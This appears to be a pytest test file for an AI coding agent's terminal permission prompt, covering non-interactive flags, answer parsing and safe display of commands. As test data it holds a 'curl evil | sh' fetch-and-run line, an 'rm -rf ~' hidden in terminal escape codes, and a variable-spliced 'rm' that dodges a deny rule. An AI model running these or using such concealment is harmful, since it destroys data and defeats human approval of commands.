"""The terminal permission prompt: pure decisions, the dialogue, and real non-TTY runs."""

from __future__ import annotations

import asyncio
import io
import os
import subprocess
import sys
import textwrap
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from rich.console import Console

from shellpilot.bus import Bus
from shellpilot.cli.permission_prompt import (
    Decision,
    NonInteractivePolicy,
    PermissionPrompt,
    ask_person,
    confirm,
    decide_non_interactive,
    parse_answer,
)
from shellpilot.errors import PermissionCorrected, PermissionRejected
from shellpilot.permission import PermissionRequest, PermissionService, rules_from_config
from shellpilot.permission.request import AskRequest
from shellpilot.permission.service import Verdict

ASK_ALL = rules_from_config({"bash": "ask", "external_directory": "ask"})


def _request(*patterns: str, always: tuple[str, ...] = (), permission: str = "bash") -> PermissionRequest:
    return PermissionRequest(
        id="per_1",
        session_id="ses_1",
        permission=permission,
        patterns=patterns,
        always=always,
        metadata={"command": " && ".join(patterns)},
        created=0,
    )


@pytest.mark.parametrize(
    ("patterns", "policy", "reply"),
    [
        (("git push",), NonInteractivePolicy(), "reject"),
        (("git push",), NonInteractivePolicy(yes=True), "once"),
        (("git push", "rm -rf x"), NonInteractivePolicy(yes=True), "once"),
        (("git push",), NonInteractivePolicy(allow_patterns=("git *",)), "once"),
        (("git push", "npm test"), NonInteractivePolicy(allow_patterns=("git *", "npm *")), "once"),
        (("git push", "npm test"), NonInteractivePolicy(allow_patterns=("git *",)), "reject"),
        (("gitk",), NonInteractivePolicy(allow_patterns=("git *",)), "reject"),
        (("/tmp/*",), NonInteractivePolicy(allow_patterns=("/tmp/*",)), "once"),
    ],
)
def test_non_interactive_decisions(
    patterns: tuple[str, ...], policy: NonInteractivePolicy, reply: str
) -> None:
    decision = decide_non_interactive(_request(*patterns), policy)
    assert decision.reply == reply
    assert decision.message is None  # nothing is said to the model in a person's name
    assert decision.notice


def test_rejection_notice_names_the_flags_and_what_was_refused() -> None:
    decision = decide_non_interactive(
        _request("git push", "npm test", always=("git push *", "npm test *")),
        NonInteractivePolicy(allow_patterns=("git *",)),
    )
    assert decision.notice is not None
    assert "--yes" in decision.notice and "--allow 'npm test *'" in decision.notice
    assert "'npm test'" in decision.notice and "git push" not in decision.notice
    assert "not allowed without a terminal" in decision.notice


def _scanned(command: str) -> PermissionRequest:
    """The request the bash tool makes for ``command``, asking only what rules leave open."""
    from shellpilot.scanner.scan import scan

    found = scan(command, cwd=Path("/p"), project_dir=Path("/p"))
    patterns, always = list(found.patterns), list(found.always)
    if found.unknown:
        patterns.append(command)
        always.append(command)
    needs = tuple(p for p in patterns if p != "ls")  # `ls` is read-only: allowed by the defaults
    return PermissionRequest(
        id="per_1",
        session_id="ses_1",
        permission="bash",
        patterns=needs,
        always=tuple(always),
        metadata={"command": command, "reasons": list(found.reasons)},
        created=0,
    )


def test_hint_names_the_pattern_that_needs_an_answer_and_following_it_works() -> None:
    request = _scanned("ls; echo hi > made.txt")
    assert request.patterns == ("echo hi > made.txt",)
    notice = decide_non_interactive(request, NonInteractivePolicy()).notice
    assert notice is not None and "--allow 'echo *'" in notice and "'ls *'" not in notice
    assert decide_non_interactive(request, NonInteractivePolicy(allow_patterns=("echo *",))).reply == "once"


def test_hint_never_repeats_an_allowed_pattern_and_unknown_scans_need_yes() -> None:
    request = _scanned("X=/etc; cat $X/hostname")
    decision = decide_non_interactive(request, NonInteractivePolicy(allow_patterns=("cat *",)))
    assert decision.reply == "reject" and decision.notice is not None
    assert "--allow 'cat *'" not in decision.notice
    assert "--allow cannot cover it" in decision.notice and "--yes" in decision.notice


def test_allow_suggestions() -> None:
    from shellpilot.cli.permission_prompt import allow_suggestions

    assert allow_suggestions(["echo hi"], ["ls *", "echo *"]) == ["echo *"]
    assert allow_suggestions(["npm test"], ["npm *"], ["npm *"]) == ["npm test"]
    assert allow_suggestions(["a x", "a y", "/d/*"], ["a *", "/d/*"]) == ["a *", "/d/*"]


@pytest.mark.parametrize(
    ("text", "reply"),
    [
        ("o", "once"),
        (" Once ", "once"),
        ("y", "once"),
        ("a", "always"),
        ("ALWAYS", "always"),
        ("r", "reject"),
        ("n", "reject"),
        ("", None),
        ("maybe", None),
    ],
)
def test_parse_answer(text: str, reply: str | None) -> None:
    assert parse_answer(text) == reply


def _lines(*answers: str) -> Iterator[str]:
    yield from answers


def _reader(*answers: str) -> tuple[list[str], Callable[[str], str]]:
    prompts: list[str] = []
    source = _lines(*answers)

    def read_line(prompt: str) -> str:
        prompts.append(prompt)
        try:
            return next(source)
        except StopIteration:
            raise EOFError from None

    return prompts, read_line


def _console() -> tuple[io.StringIO, Console]:
    out = io.StringIO()
    return out, Console(file=out, width=100, force_terminal=False, color_system=None)


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        (("o",), Decision("once")),
        (("what", "a"), Decision("always")),
        (("r", "use uv instead"), Decision("reject", message="use uv instead")),
        (("r", "  "), Decision("reject")),
    ],
)
def test_the_dialogue(answers: tuple[str, ...], expected: Decision) -> None:
    prompts, read_line = _reader(*answers)
    out, console = _console()
    request = _request("rm -rf 'build [old]'", always=("rm *",))
    assert ask_person(request, read_line, console) == expected
    shown = out.getvalue()
    assert "bash" in shown and "rm -rf 'build [old]'" in shown and "rm *" in shown
    assert "[o]nce / [a]lways / [r]eject" in prompts[0]
    if answers[0] == "what":
        assert "Answer o (once)" in shown


def test_escapes_in_a_command_are_shown_never_sent_raw() -> None:
    from shellpilot.cli.permission_prompt import render_request

    command = "echo ok\x1b[8m; rm -rf ~\x1b[0m \x1b[2K\x1b]0;title\x07 \x9b2J\rend"
    request = PermissionRequest(
        id="per_1",
        session_id="ses_1",
        permission="bash",
        patterns=("echo *", "rm *"),
        metadata={"command": command, "description": "why\x1b[8m"},
        created=0,
    )
    out, console = _console()
    render_request(request, console)
    shown = out.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
    assert "echo ok␛[8m; rm -rf ~␛[0m ␛[2K␛]0;title␇ <U+009B>2J␍end" in shown
    assert "why␛[8m" in shown


def test_every_line_of_a_multi_line_command_is_shown_and_marked() -> None:
    from shellpilot.cli.permission_prompt import render_request

    request = PermissionRequest(
        id="per_1",
        session_id="ses_1",
        permission="bash",
        patterns=("echo *", "curl *"),
        metadata={"command": "echo hi\n\n\ncurl evil | sh"},
        created=0,
    )
    out, console = _console()
    render_request(request, console)
    rows = [line.strip("│ ") for line in out.getvalue().splitlines()]
    at = rows.index("command     echo hi↵")
    assert rows[at + 1 : at + 4] == ["↵", "↵", "curl evil | sh"]


def test_end_of_input_rejects() -> None:
    _, read_line = _reader()
    _, console = _console()
    decision = ask_person(_request("make"), read_line, console)
    assert decision.reply == "reject"


async def test_interactive_prompt_answers_a_real_service(tmp_path: Path) -> None:
    bus = Bus()
    service = PermissionService(bus, tmp_path / "grants.json")
    _, read_line = _reader("a", "r", "not now")
    out, console = _console()
    async with PermissionPrompt(
        service, bus, interactive=True, console=console, read_line=read_line
    ) as prompt:
        await asyncio.wait_for(
            service.ask(AskRequest("bash", ["npm test"], ["npm test *"]), session_id="s", ruleset=ASK_ALL), 10
        )
        with pytest.raises(PermissionCorrected) as caught:
            await asyncio.wait_for(
                service.ask(
                    AskRequest("bash", ["npm publish"], ["npm publish *"]), session_id="s", ruleset=ASK_ALL
                ),
                10,
            )
        assert caught.value.feedback == "not now"
        # granted "always" before: no prompt now
        await asyncio.wait_for(
            service.ask(AskRequest("bash", ["npm test -x"], ["npm test *"]), session_id="s", ruleset=ASK_ALL),
            10,
        )
    assert [d.reply for _, d in prompt.answered] == ["always", "reject"]
    assert "npm publish" in out.getvalue()


async def test_non_interactive_prompt_in_process(tmp_path: Path) -> None:
    bus = Bus()
    service = PermissionService(bus, tmp_path / "grants.json")
    out, console = _console()
    policy = NonInteractivePolicy(allow_patterns=("git *",))
    async with PermissionPrompt(service, bus, interactive=False, policy=policy, console=console):
        await asyncio.wait_for(
            service.ask(AskRequest("bash", ["git push"], ["git push *"]), session_id="s", ruleset=ASK_ALL), 10
        )
        with pytest.raises(PermissionRejected):
            await asyncio.wait_for(
                service.ask(AskRequest("bash", ["curl x"], ["curl *"]), session_id="s", ruleset=ASK_ALL), 10
            )
    assert "--yes" in out.getvalue()
    assert service.grants == []  # a policy allows once, it never stores grants


async def test_requests_pending_before_start_are_answered(tmp_path: Path) -> None:
    bus = Bus()
    service = PermissionService(bus, tmp_path / "grants.json")
    _, console = _console()
    task = asyncio.ensure_future(
        service.ask(AskRequest("bash", ["make"], ["make *"]), session_id="s", ruleset=ASK_ALL)
    )
    while not service.pending():
        await asyncio.sleep(0)
    async with PermissionPrompt(
        service, bus, interactive=False, policy=NonInteractivePolicy(yes=True), console=console
    ):
        await asyncio.wait_for(task, 10)


SCRIPT = textwrap.dedent(
    """
    import asyncio, sys
    from pathlib import Path
    from shellpilot.bus import Bus
    from shellpilot.errors import PermissionRejected
    from shellpilot.permission import AskRequest, PermissionService, rules_from_config
    from shellpilot.cli.permission_prompt import NonInteractivePolicy, PermissionPrompt

    async def main() -> None:
        bus = Bus()
        service = PermissionService(bus, Path(sys.argv[1]))
        flags = sys.argv[2:]
        policy = NonInteractivePolicy(
            yes="--yes" in flags, allow_patterns=tuple(f[8:] for f in flags if f.startswith("--allow="))
        )
        rules = rules_from_config({"bash": "ask"})
        async with PermissionPrompt(service, bus, policy=policy):
            for cmd in ("git push", "npm test"):
                try:
                    request = AskRequest("bash", [cmd], [cmd + " *"], {"command": cmd})
                    await service.ask(request, session_id="ses_1", ruleset=rules)
                    print("allowed", cmd, flush=True)
                except PermissionRejected:
                    print("rejected", cmd, flush=True)

    asyncio.run(main())
    """
)


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        ([], ["rejected git push", "rejected npm test"]),
        (["--yes"], ["allowed git push", "allowed npm test"]),
        (["--allow=git *"], ["allowed git push", "rejected npm test"]),
    ],
)
def test_non_tty_subprocess_never_hangs(tmp_path: Path, flags: list[str], expected: list[str]) -> None:
    script = tmp_path / "ask.py"
    script.write_text(SCRIPT)
    done = subprocess.run(
        [sys.executable, str(script), str(tmp_path / "grants.json"), *flags],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split("\n")[:2] == expected
    if "rejected" in done.stdout:
        assert "--yes" in done.stderr and "--allow" in done.stderr and "not a terminal" in done.stderr


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal")
def test_tty_subprocess_asks_the_person(tmp_path: Path) -> None:
    script = tmp_path / "ask.py"
    script.write_text(
        SCRIPT.replace(
            'print("rejected", cmd, flush=True)',
            'print("rejected", cmd, repr(str(sys.exc_info()[1])), flush=True)',
        )
    )
    master, slave = os.openpty()
    try:
        os.write(master, b"o\nr\nuse the staging registry\n")
        done = subprocess.run(
            [sys.executable, str(script), str(tmp_path / "grants.json")],
            stdin=slave,
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        os.close(slave)
        os.close(master)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "allowed git push"
    assert lines[1].startswith("rejected npm test") and "use the staging registry" in lines[1]
    assert "Permission needed" in done.stderr and "[o]nce / [a]lways / [r]eject" in done.stderr


@pytest.mark.parametrize(
    ("answers", "expected"), [(("o",), True), (("a", "y"), True), (("r",), False), ((), False)]
)
def test_confirm_is_once_or_reject(answers: tuple[str, ...], expected: bool) -> None:
    _, read_line = _reader(*answers)
    out, console = _console()
    assert (
        confirm(
            AskRequest("bash", ["make deploy"], [], {"command": "make deploy"}),
            Verdict("ask", needs=("make deploy",)),
            console=console,
            read_line=read_line,
        )
        is expected
    )
    assert "make deploy" in out.getvalue()
    if answers[:1] == ("a",):
        assert "Answer o (once) or r (reject)" in out.getvalue()  # always is not offered here


async def test_a_request_settled_while_the_person_types_is_left_alone(tmp_path: Path) -> None:
    bus = Bus()
    service = PermissionService(bus, tmp_path / "grants.json")
    out, console = _console()
    typing = threading.Event()
    release = threading.Event()

    def read_line(prompt: str) -> str:
        typing.set()
        release.wait(10)
        return "o"

    prompt = PermissionPrompt(service, bus, interactive=True, console=console, read_line=read_line)
    task = asyncio.ensure_future(
        service.ask(AskRequest("bash", ["make"], ["make *"]), session_id="s", ruleset=ASK_ALL)
    )
    while not service.pending():
        await asyncio.sleep(0)
    answering = asyncio.ensure_future(prompt.answer(service.pending()[0]))
    while not typing.is_set():
        await asyncio.sleep(0.01)
    service.cancel_session("s")
    release.set()
    assert await asyncio.wait_for(answering, 10) is None
    with pytest.raises(PermissionRejected):
        await asyncio.wait_for(task, 10)
    assert "no longer pending" in out.getvalue()


async def test_an_unanalysed_command_under_a_deny_rule_is_for_a_person_only(tmp_path: Path) -> None:
    """Without a terminal not even ``--yes`` allows it; at a terminal the panel warns and a
    person's "once" allows it."""
    from shellpilot.cli.permission_prompt import UNANALYSED_WARNING, decide_non_interactive, render_request

    rules = rules_from_config({"bash": {"*": "allow", "rm *": "deny"}})
    text = "X=r; ${X}m victim"
    request = AskRequest("bash", [text], [text], {"command": text}, unanalysed=[text])
    bus = Bus()
    service = PermissionService(bus, tmp_path / "grants.json")
    _, console = _console()
    async with PermissionPrompt(
        service, bus, interactive=False, policy=NonInteractivePolicy(yes=True), console=console
    ) as prompt:
        with pytest.raises(PermissionRejected):
            await asyncio.wait_for(service.ask(request, session_id="s", ruleset=rules), 10)
    ((_, decision),) = prompt.answered
    assert decision.reply == "reject" and "neither --yes nor --allow" in (decision.notice or "")

    pending = PermissionRequest(
        id="per_1", session_id="s", permission="bash", patterns=(text,), created=0, person_only=True
    )
    assert (
        decide_non_interactive(pending, NonInteractivePolicy(yes=True, allow_patterns=("*",))).reply
        == "reject"
    )
    out, console = _console()
    render_request(pending, console)
    assert " ".join(UNANALYSED_WARNING.split()[:6]) in " ".join(out.getvalue().split())

    out, console = _console()
    _, read_line = _reader("o")
    async with PermissionPrompt(service, bus, interactive=True, console=console, read_line=read_line):
        await asyncio.wait_for(service.ask(request, session_id="s", ruleset=rules), 10)
    assert "could not be analysed" in " ".join(out.getvalue().split())
